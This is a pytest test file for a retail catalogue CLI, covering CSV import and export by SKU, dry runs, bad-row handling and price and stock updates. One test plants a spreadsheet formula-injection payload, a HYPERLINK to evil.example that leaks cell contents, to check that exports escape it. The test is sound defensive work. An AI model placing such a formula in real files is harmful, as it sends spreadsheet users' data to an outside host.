"""Imports upsert by SKU: the demo catalogue's own export imports back changing nothing, and
a file changes exactly the prices, sizes and fields it changes, through the CLI on SQLite
and PostgreSQL.

The demo retailer here is its stores, catalogue and opening stock, built by the demo's own
steps with the demo's seed (``omnicanal demo`` adds 90 days of orders and customers, a
minute and more, which a catalogue does not need).
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from pathlib import Path
from random import Random
from typing import Any

import pytest
from click.testing import Result
from sqlalchemy import select
from typer.testing import CliRunner

from omnicanal.catalog.gtin import make_gtin13
from omnicanal.catalog.models import Product, Variant
from omnicanal.cli.main import app
from omnicanal.demo import generate
from omnicanal.inventory.models import StockMovement
from omnicanal.platform.clock import utcnow
from omnicanal.platform.events import OutboxEvent
from omnicanal.platform.wiring import Platform
from omnicanal.pricing.models import ListPrice
from tests.builders import make_location, make_product, snapshot
from tests.conftest import restored_world

DEMO_SEED = 42
DEMO_STEPS = ("network", "catalogue", "stock")
HEADER = "product_code,name,category,brand,sku,gtin,size,colour,price,description\n"


def cli(platform: Platform, *args: str) -> Result:
    return CliRunner().invoke(
        app,
        list(args),
        env={
            "OMNICANAL_DATABASE_URL": platform.settings.database_url,
            "OMNICANAL_DATA_DIR": str(platform.settings.data_dir),
            "COLUMNS": "250",
        },
    )


def build_demo(platform: Platform) -> int:
    """The demo's stores, catalogue and opening stock; returns its number of SKUs."""
    demo = generate.DemoRetailer(seed=DEMO_SEED, currency="EUR")
    with platform.db.transaction() as session:
        for step in generate.STEPS:
            if step.name in DEMO_STEPS:
                rng = Random(f"omnicanal-demo:{DEMO_SEED}:{step.name}")
                step.run(session, demo, rng, lambda done, total: None)
    return demo.sku_count


@pytest.fixture
def demo(platform: Platform, request: pytest.FixtureRequest) -> int:
    """The demo catalogue on this test's database (built once per backend, then restored)."""
    return restored_world(request, platform, lambda: build_demo(platform))


def catalogue(platform: Platform) -> dict[str, tuple[Any, ...]]:
    """SKU → (product code, name, category, brand, description, GTIN, size, colour, price)."""
    with platform.db.reading() as session:
        rows = session.execute(
            select(
                Variant.sku,
                Product.code,
                Product.name,
                Product.category,
                Product.brand,
                Product.description,
                Variant.gtin,
                Variant.size,
                Variant.colour,
                ListPrice.amount_minor,
            )
            .join(Product, Product.id == Variant.product_id)
            .outerjoin(ListPrice, ListPrice.variant_id == Variant.id)
        )
        return {sku: tuple(values) for sku, *values in rows}


def events(platform: Platform) -> list[tuple[str, dict[str, Any]]]:
    with platform.db.reading() as session:
        return [
            (event.type, event.data)
            for event in session.scalars(select(OutboxEvent).order_by(OutboxEvent.id))
        ]


def read_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def write_rows(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def write(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return str(path)


# -- the demo catalogue ----------------------------------------------------------------------


def test_the_demo_catalogues_own_export_imports_back_changing_nothing(platform, demo, tmp_path):
    """Export the products, dry-run the file back (0 changes), import it: nothing moves."""
    path = tmp_path / "products.csv"
    exported = cli(platform, "export", "products", "--output", str(path))
    assert exported.exit_code == 0, exported.output
    assert len(read_rows(path)) == demo
    before, outbox = snapshot(platform), events(platform)

    dry = cli(platform, "import", "products", str(path), "--dry-run")

    assert dry.exit_code == 0, dry.output
    assert f"0 changes (0 to create, 0 to update, {demo:,} unchanged)" in dry.output
    assert "Nothing was written." in dry.output
    applied = cli(platform, "import", "products", str(path))
    assert applied.exit_code == 0, applied.output
    assert f"0 created, 0 updated, {demo:,} unchanged" in applied.output
    assert snapshot(platform) == before
    assert events(platform) == outbox


def test_the_demo_stock_export_imports_back_changing_nothing(platform, demo, tmp_path):
    """The stock export's extra columns (reserved, available…) are read past."""
    path = tmp_path / "stock.csv"
    assert cli(platform, "export", "stock", "-o", str(path)).exit_code == 0
    lines = len(read_rows(path))
    before = snapshot(platform)

    dry = cli(platform, "import", "stock", str(path), "--dry-run")
    applied = cli(platform, "import", "stock", str(path))

    assert dry.exit_code == 0, dry.output
    assert f"0 changes (0 to create, 0 to update, {lines:,} unchanged)" in dry.output
    assert applied.exit_code == 0, applied.output
    assert snapshot(platform) == before


def test_three_new_prices_and_a_new_size_change_exactly_those(platform, demo, tmp_path):
    """Edit three prices and add a size to a product in the exported file: the dry run lists
    those four lines and nothing else, and the import changes exactly them."""
    path = tmp_path / "products.csv"
    assert cli(platform, "export", "products", "-o", str(path)).exit_code == 0
    rows = read_rows(path)
    repriced = {rows[index]["sku"]: rows[index]["price"] for index in (3, 400, 1000)}
    for row in rows:
        if row["sku"] in repriced:
            euros, cents = row["price"].split(".")
            row["price"] = f"{int(euros) + 10}.{cents}"
    model = rows[700]
    new_sku = f"{model['product_code']}-NEW-4XL"
    new_gtin = make_gtin13("376999999999")
    rows.append({**model, "sku": new_sku, "gtin": new_gtin, "size": "4XL", "price": "99.90"})
    edited = write_rows(tmp_path / "edited.csv", rows)
    before, outbox = catalogue(platform), len(events(platform))
    movements = snapshot(platform)[StockMovement.__tablename__]

    dry = cli(platform, "import", "products", str(edited), "--dry-run")

    assert dry.exit_code == 0, dry.output
    assert f"4 changes (1 to create, 3 to update, {demo - 3:,} unchanged)" in dry.output
    for sku, old in repriced.items():
        euros, cents = old.split(".")
        assert f"price: {old} → {int(euros) + 10}.{cents}" in dry.output, sku
    assert new_sku in dry.output
    assert catalogue(platform) == before

    applied = cli(platform, "import", "products", str(edited))

    assert applied.exit_code == 0, applied.output
    assert f"1 created, 3 updated, {demo - 3:,} unchanged" in applied.output
    after = catalogue(platform)
    expected = dict(before)
    for sku in repriced:
        expected[sku] = (*before[sku][:-1], before[sku][-1] + 1000)
    model_row = before[model["sku"]]
    expected[new_sku] = (*model_row[:5], new_gtin, "4XL", model_row[7], 9990)
    assert after == expected
    added = events(platform)[outbox:]
    assert Counter(kind for kind, _ in added) == {
        "pricing.list_price_changed": 4,
        "catalog.product_updated": 1,
    }
    assert (
        "catalog.product_updated",
        {"code": model["product_code"], "fields": [], "added_skus": [new_sku], "updated_skus": []},
    ) in added
    assert snapshot(platform)[StockMovement.__tablename__] == movements

    again = tmp_path / "again.csv"
    assert cli(platform, "export", "products", "-o", str(again)).exit_code == 0
    assert "0 changes" in cli(platform, "import", "products", str(again), "--dry-run").output


# -- upserting, line by line -----------------------------------------------------------------

ROBE = "ROB-1,Robe Alma,Robes,Maison Lumière,{sku},{gtin},{size},noir,49.90,Lin lavé\n"
GTIN_S, GTIN_M, GTIN_L = (make_gtin13(f"37700210{n:04d}") for n in (11, 12, 13))


@pytest.fixture
def robe(platform, tmp_path) -> Platform:
    """Product ROB-1 in S and M, imported from a file."""
    text = (
        HEADER
        + ROBE.format(sku="ROB-1-S", gtin=GTIN_S, size="S")
        + ROBE.format(sku="ROB-1-M", gtin=GTIN_M, size="M")
    )
    result = cli(platform, "import", "products", write(tmp_path / "robe.csv", text))
    assert result.exit_code == 0, result.output
    return platform


def test_a_file_updates_a_products_fields_and_a_variants_colour_and_gtin(robe, tmp_path):
    text = (
        HEADER
        + "ROB-1,Robe Alma longue,Robes longues,Maison Lumière,ROB-1-S,"
        + f"{GTIN_L},S,bleu nuit,49.90,Lin lavé\n"
    )
    outbox = len(events(robe))

    result = cli(robe, "import", "products", write(tmp_path / "edit.csv", text))

    assert result.exit_code == 0, result.output
    assert "0 created, 1 updated, 0 unchanged" in result.output
    assert "name: Robe Alma → Robe Alma longue" in result.output
    assert "colour: noir → bleu nuit" in result.output
    state = catalogue(robe)
    assert state["ROB-1-S"] == (
        "ROB-1",
        "Robe Alma longue",
        "Robes longues",
        "Maison Lumière",
        "Lin lavé",
        GTIN_L,
        "S",
        "bleu nuit",
        4990,
    )
    assert state["ROB-1-M"][1:3] == ("Robe Alma longue", "Robes longues")
    assert state["ROB-1-M"][5:8] == (GTIN_M, "M", "noir")
    assert events(robe)[outbox:] == [
        (
            "catalog.product_updated",
            {
                "code": "ROB-1",
                "fields": ["name", "category"],
                "added_skus": [],
                "updated_skus": ["ROB-1-S"],
            },
        )
    ]


def test_an_empty_gtin_keeps_the_variants_gtin_and_no_description_column_keeps_it(robe, tmp_path):
    text = (
        "product_code,name,category,brand,sku,gtin,size,colour,price\n"
        "ROB-1,Robe Alma,Robes,Maison Lumière,ROB-1-S,,S,noir,49.90\n"
    )

    result = cli(robe, "import", "products", write(tmp_path / "edit.csv", text))

    assert result.exit_code == 0, result.output
    assert "0 created, 0 updated, 1 unchanged" in result.output
    assert catalogue(robe)["ROB-1-S"][4:6] == ("Lin lavé", GTIN_S)


def test_a_sku_of_another_product_or_a_gtin_another_sku_holds_refuses_the_file(robe, tmp_path):
    """Both lines are named; nothing is written, not even the good line."""
    make_product(robe, "JUPE")
    text = (
        HEADER
        + ROBE.format(sku="ROB-1-L", gtin="", size="L")
        + "JUPE,Jupe,Jupes,Maison Lumière,ROB-1-M,,M,noir,39.90,\n"
        + ROBE.format(sku="ROB-1-XL", gtin=GTIN_M, size="XL")
    )
    before = snapshot(robe)

    result = cli(robe, "import", "products", write(tmp_path / "bad.csv", text))

    assert result.exit_code == 2, result.output
    assert "SKU ROB-1-M is a variant of product ROB-1, not JUPE" in result.output
    assert f"GTIN {GTIN_M} is already used by SKU ROB-1-M" in result.output
    assert "2 bad rows in bad.csv: nothing was imported" in result.output
    assert snapshot(robe) == before


def test_skip_bad_adds_the_good_size_and_lists_the_bad_line(robe, tmp_path):
    text = (
        HEADER
        + ROBE.format(sku="ROB-1-L", gtin=GTIN_L, size="L")
        + ROBE.format(sku="ROB-1-XL", gtin=GTIN_M, size="XL")
    )

    result = cli(robe, "import", "products", "--skip-bad", write(tmp_path / "bad.csv", text))

    assert result.exit_code == 0, result.output
    assert "1 created, 0 updated, 0 unchanged" in result.output
    assert "Skipped 1 row (line 3)." in result.output
    assert sorted(catalogue(robe)) == ["ROB-1-L", "ROB-1-M", "ROB-1-S"]


def test_a_prices_file_sets_list_prices_and_a_dry_run_says_which(robe, tmp_path):
    path = write(tmp_path / "prices.csv", "sku,price\nROB-1-S,44.90\nROB-1-M,49.90\n")

    dry = cli(robe, "import", "prices", path, "--dry-run")
    applied = cli(robe, "import", "prices", path)

    assert dry.exit_code == 0, dry.output
    assert "1 change (0 to create, 1 to update, 1 unchanged)" in dry.output
    assert "price: 49.90 → 44.90" in dry.output
    assert applied.exit_code == 0, applied.output
    assert [catalogue(robe)[sku][-1] for sku in ("ROB-1-S", "ROB-1-M")] == [4490, 4990]
    assert events(robe)[-1] == (
        "pricing.list_price_changed",
        {"sku": "ROB-1-S", "currency": "EUR", "price_minor": 4490, "previous_minor": 4990},
    )


def test_a_prices_file_naming_an_unknown_sku_changes_no_price(robe, tmp_path):
    path = write(
        tmp_path / "prices.csv", "sku,price\nROB-1-S,44.90\nROB-9-S,12\nROB-1-M,99999999.99\n"
    )
    before = snapshot(robe)

    result = cli(robe, "import", "prices", path)

    assert result.exit_code == 2, result.output
    assert "unknown SKU ROB-9-S" in result.output
    assert "over the limit of 10,000,000.00 euros" in result.output
    assert snapshot(robe) == before
    assert catalogue(robe)["ROB-1-S"][-1] == 4990


def test_stock_locations_match_whatever_their_case_and_a_dry_run_shows_the_counts(robe, tmp_path):
    make_location(robe, "LYON-01")
    path = write(
        tmp_path / "stock.csv", "sku,location,quantity,safety_stock\nROB-1-S,lyon-01,4,1\n"
    )

    dry = cli(robe, "import", "stock", path, "--dry-run")
    applied = cli(robe, "import", "stock", path)
    twice = cli(
        robe,
        "import",
        "stock",
        write(
            tmp_path / "twice.csv",
            ("sku,location,quantity\nROB-1-S,LYON-01,4\nROB-1-S,Lyon-01,5\n"),
        ),
    )

    assert dry.exit_code == 0, dry.output
    assert "ROB-1-S@LYON-01" in dry.output and "quantity: 4; safety_stock: 1" in dry.output
    assert applied.exit_code == 0, applied.output
    assert "1 created, 0 updated, 0 unchanged" in applied.output
    assert snapshot(robe)["stock"] == (4, 0)
    assert twice.exit_code == 2
    assert "ROB-1-S at Lyon-01 already counted on line 2" in twice.output


def test_a_formula_in_a_name_is_escaped_on_export_and_imports_back_unchanged(robe, tmp_path):
    """A cell a spreadsheet would run (=HYPERLINK…) is written with a leading apostrophe,
    which the import removes again."""
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Robe")'
    text = (
        HEADER
        + f'ROB-1,"{name.replace(chr(34), chr(34) * 2)}",Robes,@brand,ROB-1-S,,S,-noir,49.90,+1\n'
    )
    assert cli(robe, "import", "products", write(tmp_path / "evil.csv", text)).exit_code == 0
    path = tmp_path / "export.csv"

    assert cli(robe, "export", "products", "-o", str(path)).exit_code == 0

    exported = {row["sku"]: row for row in read_rows(path)}["ROB-1-S"]
    assert exported["name"] == "'" + name
    assert (exported["brand"], exported["colour"], exported["description"]) == (
        "'@brand",
        "'-noir",
        "'+1",
    )
    assert catalogue(robe)["ROB-1-S"][1] == name
    assert "0 changes" in cli(robe, "import", "products", str(path), "--dry-run").output


def test_an_export_since_a_moment_holds_only_what_changed_from_then(robe, tmp_path):
    """A product whose name changed brings all its variants; a new price its own SKU."""
    make_product(robe, "JUPE", sizes=("S", "M"))
    since = utcnow()
    prices = write(tmp_path / "p.csv", "sku,price\nJUPE-S,19.90\n")
    renamed = write(
        tmp_path / "r.csv",
        HEADER + ROBE.format(sku="ROB-1-S", gtin="", size="S").replace("Alma", "Zélie"),
    )
    assert cli(robe, "import", "prices", prices).exit_code == 0
    assert cli(robe, "import", "products", renamed).exit_code == 0
    path = tmp_path / "since.csv"

    result = cli(robe, "export", "products", "--updated-since", since.isoformat(), "-o", str(path))

    assert result.exit_code == 0, result.output
    assert [row["sku"] for row in read_rows(path)] == ["JUPE-S", "ROB-1-M", "ROB-1-S"]
